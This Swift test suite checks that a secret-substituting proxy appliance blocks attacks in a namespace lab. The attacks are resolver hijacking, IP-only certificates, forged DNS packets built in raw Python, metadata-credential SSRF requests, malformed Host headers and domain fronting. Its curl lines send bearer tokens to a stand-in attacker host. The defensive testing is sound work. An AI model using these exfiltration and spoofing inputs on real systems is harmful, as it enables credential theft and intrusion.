import Foundation
import Testing

/// The attack lab's findings, replayed against the appliance (guest ─ appliance running
/// `keyhole proxy --interface` ─ internet): one test per attack family, each also checking
/// that the real values appear in no audit line, no proxy output and no attacker log.
///
/// The internet namespace holds the honest resolver (198.51.100.53, the appliance's own and
/// the guest's), the attacker's resolver (198.51.100.66, answering api.example.test and
/// *.cdn.example.test with 203.0.113.12) and the attacker's servers on 203.0.113.12, whose
/// certificate chains to the trusted upstream CA but names only that IP.
@Suite("Attacks end to end", .serialized, .enabled(if: isRoot, "needs root for network namespaces"))
struct AttackEndToEndTests {
    static let realValue = "attack-real-token-0005"
    static let plainValue = "attack-plain-token-0006"
    static let values = [realValue, plainValue]
    static let honestResolver = "198.51.100.53"

    /// TOKEN needs TLS identity (api.example.test, ip-only.example.test, *.cdn.example.test);
    /// PLAIN may go over plain HTTP to api.example.test. With `dns`, `network.dns` names the
    /// honest resolver; without, the trusted resolver is the appliance's own (its
    /// /etc/resolv.conf, which the harness points at the same honest resolver).
    static func policy(dns: Bool) -> String {
        """
        version: 1
        name: attack
        secrets:
          - env: TOKEN
            value: "\(realValue)"
            allow_hosts: [api.example.test, ip-only.example.test]
            allow_host_patterns: ["*.cdn.example.test"]
          - env: PLAIN
            value: "\(plainValue)"
            allow_hosts: [api.example.test]
            require_tls_identity: false
        network:
          gateway: 10.0.2.1/30
          on_secret_violation: block-and-log
          upstream_ca: [{{DIR}}/upca.pem]
        """ + (dns ? "\n  dns: [\(honestResolver)]\n" : "\n")
    }

    // MARK: - Helpers

    func curl(_ harness: ProxyHarness, _ url: String, _ options: String = "") throws -> CLI.Result {
        try harness.guestCurl(url, options)
    }

    /// A raw HTTP/1.1 request with exactly these header lines.
    func request(_ target: String, _ headers: [String], method: String = "GET") -> String {
        "\(method) \(target) HTTP/1.1\r\n" + headers.map { $0 + "\r\n" }.joined() + "\r\n"
    }

    /// Audit records with this `event` (and `reason`, when given).
    func events(_ harness: ProxyHarness, _ event: String, reason: String? = nil) -> [[String: Any]] {
        harness.records(harness.auditLog).filter {
            $0["event"] as? String == event && (reason == nil || $0["reason"] as? String == reason)
        }
    }

    /// Waits (briefly: audit warnings are written at once) until there are at least `count`
    /// such records.
    func waitForEvents(_ harness: ProxyHarness, _ event: String, reason: String? = nil, atLeast count: Int) -> Bool {
        let deadline = Date().addingTimeInterval(3)
        while Date() < deadline {
            if events(harness, event, reason: reason).count >= count { return true }
            usleep(50_000)
        }
        return events(harness, event, reason: reason).count >= count
    }

    func targets(_ harness: ProxyHarness, _ log: String) -> [String] {
        harness.records(log).compactMap { $0["target"] as? String }
    }

    /// No real value in the audit log, the proxy's output, the attacker's logs (`files`) or
    /// what the guest saw (`outputs`).
    func assertNothingLeaked(
        _ harness: ProxyHarness, files: [String] = [], outputs: [CLI.Result] = [], sourceLocation: SourceLocation = #_sourceLocation
    ) {
        var texts: [(String, String)] = [("audit log", harness.audit), ("proxy stderr", harness.stderr)]
        texts.append(("proxy stdout", (try? String(contentsOfFile: harness.proxyStdout, encoding: .utf8)) ?? ""))
        for file in files {
            texts.append((file, (try? String(contentsOfFile: file, encoding: .utf8)) ?? ""))
        }
        for (index, output) in outputs.enumerated() { texts.append(("guest output #\(index)", output.stdout + output.stderr)) }
        for (place, text) in texts {
            for value in Self.values {
                #expect(!text.contains(value), "a real value appeared in \(place)", sourceLocation: sourceLocation)
            }
        }
    }

    // MARK: - The legitimate paths still work

    /// TLS to an allowed host resolved by the trusted resolver, and plain HTTP for a
    /// `require_tls_identity: false` secret, still get their values: once with `network.dns`
    /// set to the honest resolver, once with it unset (the appliance's resolver is trusted).
    @Test("Legitimate TLS and plain HTTP still substitute", arguments: [true, false])
    func legitimateTrafficStillGetsItsSecrets(dnsConfigured: Bool) throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let tlsLog = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let plainLog = try harness.upstream("203.0.113.10", port: 80, cert: nil)
        let otherLog = try harness.upstream("203.0.113.11", port: 443, cert: "other.example.test")
        try harness.startProxy(policy: Self.policy(dns: dnsConfigured))

        // The trusted resolver answers the guest, over UDP and TCP.
        let udp = try harness.dnsQuery("api.example.test", server: Self.honestResolver)
        #expect(udp.stdout == "203.0.113.10\n", "\(udp.stdout)\(udp.stderr)")
        let tcp = try harness.dnsQuery("api.example.test", server: Self.honestResolver, tcp: true)
        #expect(tcp.stdout == "203.0.113.10\n", "\(tcp.stdout)\(tcp.stderr)")

        let tls = try curl(harness, "https://api.example.test/tls", "-H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(tls.stdout == "ok\n", "\(tls.stderr)\n\(harness.audit)")
        #expect(harness.header(harness.records(tlsLog).first ?? [:], "Authorization") == "Bearer \(Self.realValue)")

        let plain = try curl(harness, "http://api.example.test/plain", "-H 'Authorization: Bearer $MSB_PLAIN'")
        #expect(plain.stdout == "ok\n", "\(plain.stderr)\n\(harness.audit)")
        #expect(harness.header(harness.records(plainLog).first ?? [:], "Authorization") == "Bearer \(Self.plainValue)")

        // Ordinary traffic without a placeholder to another resolved name passes.
        let other = try curl(harness, "https://other.example.test/browse")
        #expect(other.stdout == "ok\n", "\(other.stderr)\n\(harness.audit)")
        #expect(targets(harness, otherLog) == ["/browse"])
        assertNothingLeaked(harness, outputs: [udp, tcp, tls, plain, other])
    }

    // MARK: - 1. The attacker's resolver and a certificate for the attacker's IP

    /// The guest picks its own resolver, which answers api.example.test → 203.0.113.12, where
    /// a server presents a certificate from a trusted root naming only that IP. Guest DNS to
    /// any other resolver reaches the trusted one (UDP and TCP), DNS over TLS is dropped, the
    /// attacker's address never gets a pin, and an iPAddress SAN never verifies a name even
    /// where trusted DNS does lead to that server.
    @Test("Attacker resolver and IP-only certificate get nothing", arguments: [true, false])
    func attackerResolverAndIPOnlyCertificateGetNothing(dnsConfigured: Bool) throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let attackerLog = try harness.upstream("203.0.113.12", port: 443, cert: try harness.ipOnlyCertificate(for: "203.0.113.12"))
        try harness.startAttackerResolver()
        let dotLog = try harness.listener(ProxyHarness.attackerResolver, port: 853)
        let dotUDPLog = try harness.listener(ProxyHarness.attackerResolver, port: 853, udp: true)
        try harness.startProxy(policy: Self.policy(dns: dnsConfigured))
        var outputs: [CLI.Result] = []

        // The guest asks the attacker's resolver: the trusted one answers, over UDP and TCP.
        let udp = try harness.dnsQuery("api.example.test", server: ProxyHarness.attackerResolver)
        #expect(udp.stdout == "203.0.113.10\n", "\(udp.stdout)\(udp.stderr)")
        let tcp = try harness.dnsQuery("api.example.test", server: ProxyHarness.attackerResolver, tcp: true)
        #expect(tcp.stdout == "203.0.113.10\n", "\(tcp.stdout)\(tcp.stderr)")
        // Over IPv6 (no trusted IPv6 resolver to send it to) the attacker's answer never arrives either.
        let v6 = try harness.dnsQuery("api.example.test", server: ProxyHarness.attackerResolverV6, timeout: 2)
        #expect(!v6.stdout.contains("203.0.113.12"), "\(v6.stdout)")
        outputs += [udp, tcp, v6]

        // DNS over TLS to the attacker's resolver (TCP and UDP 853) is dropped.
        let dot = try harness.guest(
            """
            python3 - <<'EOF'
            import socket, time
            try:
                s = socket.create_connection(('\(ProxyHarness.attackerResolver)', 853), timeout=2)
                s.sendall(b'\\x00\\x1edns-over-tls query, not a hello')
                s.settimeout(1)
                print('tcp read', s.recv(100))
            except OSError as error:
                print('tcp', error)
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b'dns-over-dtls query', ('\(ProxyHarness.attackerResolver)', 853))
            time.sleep(0.5)
            EOF
            """)
        #expect(harness.records(dotLog).isEmpty, "DNS over TLS reached the attacker: \(harness.records(dotLog)) \(dot.stdout)")
        #expect(harness.records(dotUDPLog).isEmpty, "UDP 853 reached the attacker: \(harness.records(dotUDPLog))")

        // A guest whose resolv.conf names the attacker: its lookups are answered honestly,
        // so nothing goes to the attacker's server.
        try harness.setGuestResolver(ProxyHarness.attackerResolver)
        let viaAttacker = try curl(harness, "https://api.example.test/via-attacker-resolver", "-H 'Authorization: Bearer $MSB_TOKEN'")
        try harness.setGuestResolver(Self.honestResolver)
        #expect(harness.records(attackerLog).isEmpty, "\(viaAttacker.stderr)")
        outputs.append(viaAttacker)

        // The attack itself: SNI api.example.test to the attacker's address.
        let direct = try curl(
            harness, "https://api.example.test/steal", "--resolve api.example.test:443:203.0.113.12 -H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(direct.status != 0, "\(direct.stdout)")
        #expect(harness.records(attackerLog).isEmpty, "the attacker's server received a request")
        outputs.append(direct)

        // Where trusted DNS does send an allowed name to that server, its certificate still
        // names no host: the upstream handshake fails, with a placeholder or without.
        let failuresBefore = events(harness, "upstream-tls-failed").count
        let ipOnly = try curl(harness, "https://ip-only.example.test/steal", "-H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(ipOnly.status == 35 || ipOnly.status == 56, "\(ipOnly.status) \(ipOnly.stdout) \(ipOnly.stderr)")
        #expect(waitForEvents(harness, "upstream-tls-failed", atLeast: failuresBefore + 1), "\(harness.audit)")
        let noPlaceholder = try curl(harness, "https://ip-only.example.test/no-placeholder")
        #expect(noPlaceholder.status != 0, "\(noPlaceholder.stdout)")
        #expect(waitForEvents(harness, "upstream-tls-failed", atLeast: failuresBefore + 2), "\(harness.audit)")
        #expect(harness.records(attackerLog).isEmpty, "the attacker's server received a request: \(targets(harness, attackerLog))")
        outputs += [ipOnly, noPlaceholder]

        assertNothingLeaked(harness, files: [attackerLog, dotLog, dotUDPLog], outputs: outputs)
    }

    /// An SNI that is no valid host name (`bad-.cdn.example.test`, which `*.cdn.example.test`
    /// matches textually) names nothing: the placeholder is a violation, whether the server
    /// behind it has the IP-only certificate or one for `*.cdn.example.test`.
    @Test("An invalid SNI is no name")
    func anInvalidSNIIsNoName() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let ipOnlyLog = try harness.upstream("203.0.113.12", port: 443, cert: try harness.ipOnlyCertificate(for: "203.0.113.12"))
        let wildcard = try harness.issueCertificate("cdn-wildcard", subjectAltName: "DNS:*.cdn.example.test")
        let wildcardLog = try harness.upstream("203.0.113.12", port: 8443, cert: wildcard)
        try harness.startProxy(policy: Self.policy(dns: false))
        // Trusted DNS sends *.cdn.example.test to 203.0.113.12.
        let lookups = try [
            harness.dnsQuery("www.cdn.example.test", server: Self.honestResolver),
            harness.dnsQuery("bad-.cdn.example.test", server: Self.honestResolver),
        ]
        #expect(lookups[0].stdout == "203.0.113.12\n", "\(lookups[0].stdout)\(lookups[0].stderr)")

        // Control: a valid name under the pattern, on a server whose certificate names it.
        let valid = try harness.exchange(
            ip: "203.0.113.12", port: 8443, sni: "www.cdn.example.test",
            requests: [request("/valid-sni", ["Host: www.cdn.example.test", "Authorization: Bearer $MSB_TOKEN"])])
        #expect(valid.stdout.hasPrefix("response HTTP/1.1 200"), "\(valid.stdout)\(valid.stderr)\n\(harness.audit)")
        #expect(harness.header(harness.records(wildcardLog).first ?? [:], "Authorization") == "Bearer \(Self.realValue)")

        var outputs = lookups + [valid]
        for (port, log) in [(443, ipOnlyLog), (8443, wildcardLog)] {
            let attack = try harness.exchange(
                ip: "203.0.113.12", port: port, sni: "bad-.cdn.example.test", verify: false,
                requests: [request("/invalid-sni", ["Host: bad-.cdn.example.test", "Authorization: Bearer $MSB_TOKEN"])])
            #expect(!attack.stdout.contains("response"), "port \(port): \(attack.stdout)\(attack.stderr)")
            #expect(!targets(harness, log).contains("/invalid-sni"), "port \(port): the request reached the server")
            outputs.append(attack)
        }
        #expect(targets(harness, wildcardLog) == ["/valid-sni"])
        assertNothingLeaked(harness, files: [ipOnlyLog], outputs: outputs)
    }

    // MARK: - 2. Plain HTTP steered by the guest's resolver

    /// A `require_tls_identity: false` secret goes only where trusted DNS sends its host: the
    /// attacker's resolver cannot steer plain HTTP to 203.0.113.12.
    @Test("Plain HTTP secrets are not steered by the guest's resolver")
    func plainHTTPSecretsAreNotSteeredByTheGuestsResolver() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        try harness.upstream("203.0.113.10", port: 80, cert: nil)
        let attackerLog = try harness.upstream("203.0.113.12", port: 80, cert: nil)
        try harness.startAttackerResolver()
        try harness.startProxy(policy: Self.policy(dns: false))

        let udp = try harness.dnsQuery("api.example.test", server: ProxyHarness.attackerResolver)
        #expect(udp.stdout == "203.0.113.10\n", "\(udp.stdout)\(udp.stderr)")
        let tcp = try harness.dnsQuery("api.example.test", server: ProxyHarness.attackerResolver, tcp: true)
        #expect(tcp.stdout == "203.0.113.10\n", "\(tcp.stdout)\(tcp.stderr)")

        try harness.setGuestResolver(ProxyHarness.attackerResolver)
        let viaAttacker = try curl(harness, "http://api.example.test/via-attacker-resolver", "-H 'Authorization: Bearer $MSB_PLAIN'")
        try harness.setGuestResolver(Self.honestResolver)
        #expect(harness.records(attackerLog).isEmpty, "\(viaAttacker.stderr)")

        // Host api.example.test, to the address the attacker's resolver gave.
        let violationsBefore = events(harness, "violation").count
        let direct = try curl(
            harness, "http://api.example.test/steal", "--resolve api.example.test:80:203.0.113.12 -H 'Authorization: Bearer $MSB_PLAIN'")
        #expect(direct.status != 0, "\(direct.stdout)")
        #expect(harness.records(attackerLog).isEmpty, "the attacker's server received: \(targets(harness, attackerLog))")
        #expect(waitForEvents(harness, "violation", atLeast: violationsBefore + 1), "\(harness.audit)")
        assertNothingLeaked(harness, files: [attackerLog], outputs: [udp, tcp, viaAttacker, direct])
    }

    /// The guest forges a DNS answer itself: source a trusted resolver's address and port 53,
    /// destination its own address, sent as an Ethernet frame to the gateway, which routes it
    /// back to the guest. The appliance's reverse-path check drops it, and only replies of
    /// the guest's own DNS connections are observed, so it pins nothing.
    @Test("A DNS answer the guest forges itself pins nothing")
    func aForgedAnswerPinsNothing() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let attackerLog = try harness.upstream("203.0.113.12", port: 80, cert: nil)
        try harness.startProxy(policy: Self.policy(dns: false))
        // api.example.test A 203.0.113.12, TTL 2^31-1, as if from the honest resolver.
        let forged =
            "00008180000100010000000003617069076578616d706c65047465737400000100"
            + "01c00c000100017fffffff0004cb00710c"
        let script = """
            import socket, struct, subprocess, time
            iface = '\(harness.shortID)-g0'
            subprocess.run(['ping', '-c', '1', '-W', '1', '10.0.2.1'], capture_output=True)
            neigh = subprocess.check_output(['ip', 'neigh', 'show', '10.0.2.1', 'dev', iface]).split()
            gateway_mac = bytes.fromhex(neigh[neigh.index(b'lladdr') + 1].decode().replace(':', ''))
            own_mac = bytes.fromhex(open('/sys/class/net/' + iface + '/address').read().strip().replace(':', ''))
            dns = bytes.fromhex('\(forged)')
            udp = struct.pack('!HHHH', 53, 40000, 8 + len(dns), 0) + dns
            def checksum(header):
                total = sum(struct.unpack('!10H', header))
                while total > 0xFFFF: total = (total & 0xFFFF) + (total >> 16)
                return ~total & 0xFFFF
            ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                             socket.inet_aton('\(Self.honestResolver)'), socket.inet_aton('10.0.2.2'))
            ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            s.bind((iface, 0))
            for _ in range(3):
                s.send(gateway_mac + own_mac + b'\\x08\\x00' + ip + udp)
                time.sleep(0.2)
            print('sent')
            """
        let sent = try harness.guest("python3 - <<'EOF'\n\(script)\nEOF")
        #expect(sent.stdout.contains("sent"), "\(sent.stderr)")
        // Plain HTTP for the PLAIN secret to the forged address: nothing pinned it.
        let direct = try curl(
            harness, "http://api.example.test/forged-pin", "--resolve api.example.test:80:203.0.113.12 -H 'Authorization: Bearer $MSB_PLAIN'")
        #expect(direct.status != 0, "\(direct.stdout)")
        #expect(harness.records(attackerLog).isEmpty, "the forged answer pinned api.example.test to the attacker")
        #expect(harness.audit.contains("\"reason\":\"dns-not-pinned\""), "\(harness.audit)")
        assertNothingLeaked(harness, files: [attackerLog], outputs: [sent, direct])
    }

    // MARK: - 3. Proxied TCP obeys network.egress

    /// With the default egress (`public`), proxied TCP reaches neither the metadata address,
    /// nor a private service, nor the appliance itself (its gateway address or its uplink
    /// address): the proxy refuses before connecting, so the service sees no connection.
    @Test("Proxied TCP obeys network.egress")
    func proxiedTCPObeysEgress() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let publicLog = try harness.upstream("203.0.113.10", port: 80, cert: nil)
        let metadata = try harness.listener("169.254.169.254", port: 80, http: true, body: "metadata-role-credentials")
        let database = try harness.listener("192.168.77.7", port: 5432)
        try harness.startProxy(policy: Self.policy(dns: false))
        // The gateway address exists once the proxy has configured the interface.
        let gateway = try harness.listener("10.0.2.1", port: 8080, in: harness.applianceNamespace, http: true, body: "appliance-admin-page")
        let uplink = try harness.listener("198.51.100.1", port: 8080, in: harness.applianceNamespace, http: true, body: "appliance-admin-page")

        // Control: a public address is reachable through the proxy.
        let control = try curl(harness, "http://api.example.test/public")
        #expect(control.stdout == "ok\n", "\(control.stderr)\n\(harness.audit)")
        #expect(targets(harness, publicLog) == ["/public"])

        var outputs = [control]
        let services = [
            ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", metadata, "metadata-role-credentials"),
            ("http://10.0.2.1:8080/admin", gateway, "appliance-admin-page"),
            ("http://198.51.100.1:8080/admin", uplink, "appliance-admin-page"),
        ]
        for (url, log, body) in services {
            let before = events(harness, "egress-denied").count
            let result = try curl(harness, url)
            #expect(result.status != 0, "\(url): \(result.stdout)")
            #expect(!result.stdout.contains(body), "\(url) answered the guest")
            #expect(harness.records(log).isEmpty, "\(url) saw: \(harness.records(log))")
            #expect(waitForEvents(harness, "egress-denied", atLeast: before + 1), "\(url): \(harness.audit)")
            outputs.append(result)
        }

        // The metadata address in an IPv6 form a NAT64 translator would carry to it.
        let nat64Before = events(harness, "egress-denied").count
        let nat64 = try curl(harness, "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/", "-g --max-time 4")
        #expect(nat64.status != 0, "\(nat64.stdout)")
        #expect(waitForEvents(harness, "egress-denied", atLeast: nat64Before + 1), "\(harness.audit)")
        outputs.append(nat64)

        // A private TCP service speaking its own protocol (a PostgreSQL SSLRequest).
        let postgresBefore = events(harness, "egress-denied").count
        let postgres = try harness.guest(
            """
            python3 - <<'EOF'
            import socket
            try:
                s = socket.create_connection(('192.168.77.7', 5432), timeout=5)
                s.sendall(bytes.fromhex('0000000804d2162f'))
                data = s.recv(100)
                print('answered', data) if data else print('closed')
            except OSError as error:
                print('refused', error)
            EOF
            """)
        #expect(!postgres.stdout.contains("answered"), "\(postgres.stdout)")
        #expect(harness.records(database).isEmpty, "the private service saw: \(harness.records(database))")
        #expect(waitForEvents(harness, "egress-denied", atLeast: postgresBefore + 1), "\(harness.audit)")
        outputs.append(postgres)
        assertNothingLeaked(harness, files: [metadata, database, gateway, uplink], outputs: outputs)
    }

    // MARK: - 4. Host must be one valid host

    /// `Host: [api.example.test]` (brackets around a name that is not an IPv6 literal) is no
    /// host, and neither are other malformed forms: the request is refused and nothing goes
    /// upstream. Without a placeholder that is a framing error (`invalid-host`); with one, the
    /// refusal may be reported as the violation it also is. A second Host is a framing error
    /// too; `api.example.test:443` still is api.example.test.
    @Test("Host must be a single valid host")
    func hostMustBeASingleValidHost() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let tlsLog = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let plainLog = try harness.upstream("203.0.113.10", port: 80, cert: nil)
        try harness.startProxy(policy: Self.policy(dns: false))
        // Trusted DNS pins api.example.test to 203.0.113.10, so only the Host is wrong below.
        #expect(try harness.guest("getent hosts api.example.test").stdout.contains("203.0.113.10"))
        /// Audit records that refuse a request: a framing error or a violation.
        func refusals() -> Int { events(harness, "framing-error").count + events(harness, "violation").count }

        // The lab's attack: curl with the secret's placeholder.
        var outputs: [CLI.Result] = []
        var before = refusals()
        let bracket = try curl(harness, "https://api.example.test/bracket", "-H 'Host: [api.example.test]' -H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(bracket.status != 0, "\(bracket.stdout)")
        #expect(harness.records(tlsLog).isEmpty, "the upstream received: \(targets(harness, tlsLog))")
        #expect(refusals() > before, "\(harness.audit)")
        outputs.append(bracket)

        for host in ["[api.example.test]", "[api.example.test]:443", "api.example.test:44x3", "api.example.test:443:443"] {
            // With a placeholder: refused, nothing upstream.
            before = refusals()
            let withSecret = try harness.exchange(
                ip: "203.0.113.10", port: 443, sni: "api.example.test",
                requests: [request("/invalid-host-secret", ["Host: \(host)", "Authorization: Bearer $MSB_TOKEN"])])
            #expect(!withSecret.stdout.contains("response"), "Host: \(host): \(withSecret.stdout)\(withSecret.stderr)")
            #expect(refusals() > before, "Host: \(host): \(harness.audit)")
            // Without one: a framing error, invalid-host.
            let invalidBefore = events(harness, "framing-error", reason: "invalid-host").count
            let bare = try harness.exchange(
                ip: "203.0.113.10", port: 443, sni: "api.example.test", requests: [request("/invalid-host", ["Host: \(host)"])])
            #expect(!bare.stdout.contains("response"), "Host: \(host): \(bare.stdout)\(bare.stderr)")
            #expect(
                waitForEvents(harness, "framing-error", reason: "invalid-host", atLeast: invalidBefore + 1), "Host: \(host): \(harness.audit)")
            outputs += [withSecret, bare]
        }
        #expect(harness.records(tlsLog).isEmpty, "the upstream received: \(targets(harness, tlsLog))")

        // The same on plain HTTP, for the secret that may go there.
        before = refusals()
        let plain = try harness.exchange(
            ip: "203.0.113.10", port: 80, tls: false,
            requests: [request("/plain-bracket-secret", ["Host: [api.example.test]", "Authorization: Bearer $MSB_PLAIN"])])
        #expect(!plain.stdout.contains("response"), "\(plain.stdout)\(plain.stderr)")
        #expect(refusals() > before, "\(harness.audit)")
        let invalidBefore = events(harness, "framing-error", reason: "invalid-host").count
        let plainBare = try harness.exchange(
            ip: "203.0.113.10", port: 80, tls: false, requests: [request("/plain-bracket", ["Host: [api.example.test]"])])
        #expect(!plainBare.stdout.contains("response"), "\(plainBare.stdout)\(plainBare.stderr)")
        #expect(waitForEvents(harness, "framing-error", reason: "invalid-host", atLeast: invalidBefore + 1), "\(harness.audit)")
        #expect(harness.records(plainLog).isEmpty, "the upstream received: \(targets(harness, plainLog))")
        outputs += [plain, plainBare]

        // Exactly one Host.
        let framingBefore = events(harness, "framing-error").count
        let duplicate = try harness.exchange(
            ip: "203.0.113.10", port: 443, sni: "api.example.test",
            requests: [request("/duplicate-host", ["Host: api.example.test", "Host: api.example.test"])])
        #expect(!duplicate.stdout.contains("response"), "\(duplicate.stdout)\(duplicate.stderr)")
        #expect(waitForEvents(harness, "framing-error", atLeast: framingBefore + 1), "\(harness.audit)")
        #expect(harness.records(tlsLog).isEmpty, "the upstream received: \(targets(harness, tlsLog))")
        outputs.append(duplicate)

        // Control: a numeric port is fine, and the value goes to the real api.example.test.
        let withPort = try harness.exchange(
            ip: "203.0.113.10", port: 443, sni: "api.example.test",
            requests: [request("/with-port", ["Host: api.example.test:443", "Authorization: Bearer $MSB_TOKEN"])])
        #expect(withPort.stdout.hasPrefix("response HTTP/1.1 200"), "\(withPort.stdout)\(withPort.stderr)\n\(harness.audit)")
        #expect(targets(harness, tlsLog) == ["/with-port"])
        #expect(harness.header(harness.records(tlsLog).first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
        outputs.append(withPort)
        assertNothingLeaked(harness, outputs: outputs)
    }

    // MARK: - 5. Domain fronting

    /// On intercepted TLS to api.example.test, a request for another host is refused even
    /// without a placeholder (`host-mismatch`): on a fresh connection, after an honest request
    /// on a kept-alive one, with a port, and in an absolute-form target.
    @Test("Domain fronting is refused without a placeholder")
    func domainFrontingIsRefusedWithoutAPlaceholder() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let apiLog = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let otherLog = try harness.upstream("203.0.113.11", port: 443, cert: "other.example.test")
        try harness.startProxy(policy: Self.policy(dns: false))
        #expect(try harness.guest("getent hosts api.example.test").stdout.contains("203.0.113.10"))

        var before = events(harness, "host-mismatch").count
        let fronted = try curl(harness, "https://api.example.test/fronted", "-H 'Host: other.example.test'")
        #expect(fronted.status != 0, "\(fronted.stdout)")
        #expect(waitForEvents(harness, "host-mismatch", atLeast: before + 1), "\(harness.audit)")
        #expect(harness.records(apiLog).isEmpty, "the upstream received: \(targets(harness, apiLog))")

        // Kept alive: the honest request passes, the fronted one that follows does not.
        before = events(harness, "host-mismatch").count
        let keptAlive = try harness.exchange(
            ip: "203.0.113.10", port: 443, sni: "api.example.test",
            requests: [request("/first", ["Host: api.example.test"]), request("/second", ["Host: other.example.test"])])
        let lines = keptAlive.stdout.split(separator: "\n")
        #expect(lines.first?.hasPrefix("response HTTP/1.1 200") == true, "\(keptAlive.stdout)\(keptAlive.stderr)\n\(harness.audit)")
        #expect(lines.dropFirst().allSatisfy { !$0.hasPrefix("response") }, "\(keptAlive.stdout)")
        #expect(waitForEvents(harness, "host-mismatch", atLeast: before + 1), "\(harness.audit)")
        #expect(targets(harness, apiLog) == ["/first"])

        // Another host with a port, and in the target's authority.
        for (target, host) in [("/with-port", "other.example.test:443"), ("https://other.example.test/absolute", "api.example.test")] {
            before = events(harness, "host-mismatch").count
            let result = try harness.exchange(ip: "203.0.113.10", port: 443, sni: "api.example.test", requests: [request(target, ["Host: \(host)"])])
            #expect(!result.stdout.contains("response"), "\(target) Host \(host): \(result.stdout)\(result.stderr)")
            #expect(waitForEvents(harness, "host-mismatch", atLeast: before + 1), "\(target) Host \(host): \(harness.audit)")
        }
        #expect(targets(harness, apiLog) == ["/first"])
        #expect(harness.records(otherLog).isEmpty)
        assertNothingLeaked(harness, outputs: [fronted, keptAlive])
    }
}
